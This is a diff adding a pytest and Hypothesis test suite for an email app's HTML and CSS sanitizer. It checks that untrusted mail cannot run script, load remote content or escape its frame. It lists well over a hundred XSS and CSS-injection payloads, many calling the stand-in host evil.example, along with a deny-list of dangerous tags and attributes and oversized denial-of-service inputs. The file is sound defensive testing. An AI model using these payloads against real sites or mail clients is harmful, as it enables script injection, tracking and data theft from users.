@@ -1,0 +1,332 @@
+"""HTML of strangers: no script, no request, no escape from the frame."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from mailapp.mail.css import safe_style
+from mailapp.mail.sanitize import PLACEHOLDER, Sanitized, sanitize
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`javascript:alert(1)`>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=javascript:alert(1)>",
+    "<img src=' &#14;  javascript:alert(1)'>",
+    "<img/onerror=alert(1)/src=x>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    '<svg><animate onbegin=alert(1) attributeName="x">',
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
+    "<title><img title='</title><img src=x onerror=alert(1)>'>",
+    "<style><img title='</style><img src=x onerror=alert(1)>'>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
+    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
+    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='blob:http://x'>x</a>",
+    "<a href='cid:javascript:alert(1)'>x</a>",
+    "<a href='http://x' ping='http://evil.example'>x</a>",
+    "<a href='http://x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
+    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
+    "<img src='data:text/html,x'>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<img srcset='http://evil.example/a 1x' src='http://evil.example/b'>",
+    "<img lowsrc='http://evil.example/a' dynsrc='http://evil.example/b' longdesc='http://evil.example'>",
+    "<img src='//evil.example/a.gif'>",
+    "<img src='\\\\evil.example\\a.gif'>",
+    "<img src='/\t/evil.example/a.gif'>",
+    "<img src='ht\ntp://evil.example/a.gif'>",
+    "<picture><source srcset='http://evil.example/a'><img></picture>",
+    "<input type=image src='http://evil.example/a' onfocus=alert(1) autofocus>",
+    "<video src='http://evil.example/a' poster='http://evil.example/b' onerror=alert(1)></video>",
+    "<audio src='http://evil.example/a' autoplay></audio>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<frameset onload=alert(1)><frame src='http://evil.example'></frameset>",
+    "<object data='http://evil.example/x.swf'></object>",
+    "<embed src='http://evil.example/x.swf'>",
+    "<applet code=x></applet>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<base href='http://evil.example/'>",
+    "<link rel=stylesheet href='http://evil.example/x.css'>",
+    "<link rel=prefetch href='http://evil.example/x'>",
+    "<form action='http://evil.example'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
+    "<isindex action='javascript:alert(1)'>",
+    "<body onload=alert(1) background='http://evil.example/a'>",
+    "<table background='http://evil.example/a'><tr><td background='javascript:alert(1)'>x</table>",
+    "<bgsound src='http://evil.example/a'>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<style>body{background:url(http://evil.example/a)}</style>",
+    "<p style='background:url(http://evil.example/a)'>x",
+    "<p style='background:u\\72l(http://evil.example/a)'>x",
+    "<p style='background:u\\000072 l(http://evil.example/a)'>x",
+    "<p style='background-image:url(http://evil.example/a)'>x",
+    "<p style='back\\67round-image:url(http://evil.example/a)'>x",
+    "<p style='background:u/**/rl(http://evil.example/a)'>x",
+    "<p style='color:red;/*;*/background:url(http://evil.example/a)'>x",
+    "<p style='background:image-set(\"http://evil.example/a\" 1x)'>x",
+    "<p style='background-color:red url(http://evil.example/a)'>x",
+    "<p style='list-style:url(http://evil.example/a)'>x",
+    "<p style='list-style-image:url(http://evil.example/a)'>x",
+    "<p style='border-image:url(http://evil.example/a) 30'>x",
+    "<p style='content:url(http://evil.example/a)'>x",
+    "<p style='cursor:url(http://evil.example/a),auto'>x",
+    "<p style='filter:url(http://evil.example/a#f)'>x",
+    "<p style='mask:url(http://evil.example/a)'>x",
+    "<p style='width:expression(alert(1))'>x",
+    "<p style='wi\\64th:exp/**/ression(alert(1))'>x",
+    "<p style='-moz-binding:url(http://evil.example/a#x)'>x",
+    "<p style='behavior:url(http://evil.example/a.htc)'>x",
+    "<p style='position:fixed;top:0;left:0;z-index:9999'>x",
+    "<p style='font-family:\"x;background:url(http://evil.example/a)\"'>x",
+    "<p style='color:red&#59;background&#58;url(http://evil.example/a)'>x",
+    "<p style='@import \"http://evil.example/x.css\"'>x",
+    "<p style='color:var(--x, url(http://evil.example/a))'>x",
+    "<p style='animation:x 1s'>x",
+    "<div id=body name=cookie class=x>x</div>",
+    "<a id=document name=location>x</a><img name=getElementById src=x>",
+    "<font color='red\"onclick=\"alert(1)'>x</font>",
+    "<p title='\"><script>alert(1)</script>'>x",
+    "<<script>alert(1)//<</script>",
+    "<p/onclick=alert(1)>x",
+    "<p\x0conclick=alert(1)>x",
+    "<a\x00href='javascript:alert(1)'>x</a>",
+    "<img src=x:x onerror\x00=alert(1)>",
+    "<b <script>alert(1)</script>0",
+    "<a href='http://x' style='x:\xe9' target=_self rel=opener>x</a>",
+]
+ALLOWED_CSS = re.compile(r"[a-z-]+:[^:;\\<>@{}]*")
+
+
+class _Judge(HTMLParser):
+    """Fails on any element, attribute or address that could run or load something."""
+
+    remote = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag not in {
+            "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
+            "button", "link", "meta", "base", "template", "video", "audio", "source", "picture", "noscript", "textarea",
+            "title", "select", "xmp", "plaintext", "noembed", "noframes", "body", "html", "head", "marquee", "bgsound",
+        }  # fmt: skip
+        for name, value in attrs:
+            value = value or ""
+            assert not name.startswith("on")
+            assert name not in {
+                "id", "name", "class", "srcset", "background", "poster", "action", "formaction", "ping", "data", "srcdoc",
+                "xlink:href", "lowsrc", "dynsrc", "longdesc", "usemap", "http-equiv",
+            }  # fmt: skip
+            if name == "href":
+                assert re.match(r"(?:https?|mailto|tel):", value), value
+            if name == "src":
+                expected = r"data:image/(png|jpe?g|gif|webp);base64,|/cid/" + (r"|https?:" if self.remote else "")
+                assert re.match(expected, value), value
+            if name == "target":
+                assert value == "_blank"
+            if name == "rel":
+                assert value == "noopener noreferrer nofollow"
+            if name == "style":
+                _style(value)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError("a comment")
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError("a declaration")
+
+    unknown_decl = handle_pi = handle_decl
+
+
+def _style(value: str) -> None:
+    for word in ("url", "expression", "image(", "import", "\\", "/*", "position:", "z-index", "binding", "behavior"):
+        assert word not in value.lower(), value
+    for declaration in filter(None, value.split(";")):
+        assert ALLOWED_CSS.fullmatch(declaration.strip()), declaration
+
+
+def judge(html: str, remote: bool = False) -> None:
+    reader = _Judge(convert_charrefs=True)
+    reader.remote = remote
+    reader.feed(html)
+    reader.close()
+
+
+def clean(html: str, remote: bool = False) -> Sanitized:
+    return sanitize(html, lambda cid: f"/cid/{len(cid)}", remote)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("remote", [False, True])
+def test_no_attack_gets_through(attack: str, remote: bool) -> None:
+    judge(clean(attack, remote).html, remote)
+    judge(clean(f"<div><table><tr><td>{attack}", remote).html, remote)
+
+
+PIECES = st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", "</b>", "<a>", "</a>", "<table>", "</table>", "<td>", "<tr>",
+    "<div>", "</div>", "<li>", "<h1>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<title>", "<!--", "-->",
+    "'", '"', ">", "<", "&lt;", "&amp;", "&#60;", "]]>", "<br>", "<img src=http://x>", "text", "<font color=red>"])  # fmt: skip
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(PIECES | st.text(max_size=8), max_size=25))
+def test_shuffled_attacks_stay_harmless_and_the_result_is_stable(pieces: list[str]) -> None:
+    once = sanitize("".join(pieces), lambda _: None, False).html
+    judge(once)
+    twice = sanitize(once, lambda _: None, False)
+    assert sanitize(twice.html, lambda _: None, False).html == twice.html
+    assert twice.blocked == 0
+    judge(twice.html)
+
+
+@given(st.text(max_size=200))
+def test_styles_never_come_out_dangerous(text: str) -> None:
+    for style in (text, f"color:{text}", f"font-family:{text}", f"background:{text}", f"font:{text}"):
+        _style(safe_style(style))
+
+
+def test_remote_pictures_wait_for_consent_and_are_counted() -> None:
+    html = (
+        '<img src="https://a.example/logo.png" width="600" height="80"><img src="//b.example/t.gif" width=1 height=1>'
+    )
+    held = clean(html)
+    assert held.blocked == 2
+    assert held.html.count(PLACEHOLDER) == 2
+    assert 'width="600"' in held.html
+    shown = clean(html, remote=True)
+    assert shown.blocked == 0
+    assert 'src="https://a.example/logo.png"' in shown.html
+    assert 'src="https://b.example/t.gif"' in shown.html
+
+
+def test_inline_pictures_get_their_address_or_go() -> None:
+    assert sanitize('<img src="cid:a@b">', {"a@b": "/messages/1/attachments/1/"}.get, False).html == (
+        '<img src="/messages/1/attachments/1/">'
+    )
+    assert sanitize('<img src="cid:other">', lambda _: None, False).html == ""
+    assert sanitize('<img src="cid:other" alt="Logo">', lambda _: None, False).html.startswith('<img alt="Logo"')
+
+
+def test_data_pictures_stay_when_they_are_raster() -> None:
+    assert "data:image/png;base64,AAAA" in clean('<img src="data:image/png;base64,AAAA">').html
+
+
+def test_links_open_apart_and_tell_nothing() -> None:
+    assert clean('<a href="HTTPS://a.example/?a=1&amp;b=2">x</a>').html == (
+        '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
+    )
+    assert 'href="mailto:a@b.example"' in clean("<a href=mailto:a@b.example>x</a>").html
+    assert 'href="tel:+86-10"' in clean("<a href=tel:+86-10>x</a>").html
+    assert 'href="http://www.a.example"' in clean("<a href=www.a.example>x</a>").html
+    assert "href" not in clean("<a href=/settings>x</a><a href=#top>y</a>").html
+
+
+def test_the_look_of_a_newsletter_survives() -> None:
+    html = (
+        '<table width="600" cellpadding="0" bgcolor="#fff" align="center"><tr><td style="padding:10px 20px;font-family:'
+        "'Microsoft YaHei', Arial;color:rgb(1, 2, 3);background:#eee url(x.png) no-repeat\" colspan=2>"
+        '<font color="red" size="2"><b>您好</b></font></td></tr></table>'
+    )
+    out = clean(html).html
+    for kept in (
+        'width="600"',
+        'bgcolor="#fff"',
+        "padding:10px 20px",
+        "Microsoft YaHei",
+        "rgb(1",
+        "#eee",
+        'colspan="2"',
+    ):
+        assert kept in out, (kept, out)
+    assert "<b>您好</b>" in out
+    assert "url" not in out
+
+
+def test_css_escapes_and_comments_are_undone_before_judging() -> None:
+    assert safe_style("co\\6cor:r/* */ed") == "color:red"
+    assert safe_style("background:u\\72l(http://x)") == ""
+    assert safe_style("color:red\\3b position:fixed") == "color:red"
+    assert safe_style("background:url(x) #fff") == "background-color:#fff"
+    assert safe_style("width:calc(100% - 2px);color:blue") == "color:blue"
+
+
+def test_badly_nested_markup_keeps_its_layout() -> None:
+    out = clean("<font color=red><table><tr><td>a</font></td><td>b</td></tr></table>c").html
+    assert out.count("<td>") == 2
+    assert out.index("b</td>") < out.index("</table>") < out.index("c")
+
+
+def test_unclosed_and_stray_tags_are_set_right() -> None:
+    assert clean("<p>a<p>b</b></div>").html == "<p>a</p><p>b</p>"
+    assert clean("<ul><li>a<li>b</ul>").html == "<ul><li>a</li><li>b</li></ul>"
+    assert clean("1 < 2 & 3").html == "1 &lt; 2 &amp; 3"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div>" * 400_000,
+        "<b><p>" * 100_000,
+        "".join(f"<font size={n}>" for n in range(3000)) + "<p>x" * 100_000,
+        "<a " + "a " * 900_000 + ">",
+        "&" * 2_000_000,
+        "<" * 2_000_000,
+        "<table>" * 200_000,
+        "<table><a>" * 100_000,
+        "<svg>" * 300_000,
+        "</p>" * 400_000,
+        "<!--" * 400_000,
+        '<a b="' * 300_000,
+        "<p style='" + "\\72" * 100_000 + "'>",
+        "<p style='font-family:" + "a, " * 2_000 + "!'>" * 1,
+        "<p style='font:" + "a" * 8_000 + "(" + "'>",
+    ],
+    ids=lambda html: html[:12],
+)
+def test_monstrous_html_takes_bounded_time(html: str) -> None:
+    began = time.process_time()
+    judge(clean(html).html[:200_000].rpartition("<")[0])
+    assert time.process_time() - began < 4.0
+
+
+def test_too_deep_a_letter_is_still_there() -> None:
+    out = clean("<div>" * 5000 + "the letter" + "</div>" * 5000 + "the end").html
+    assert "the letter" in out
+    assert "the end" in out
+    assert out.count("<div>") < 200
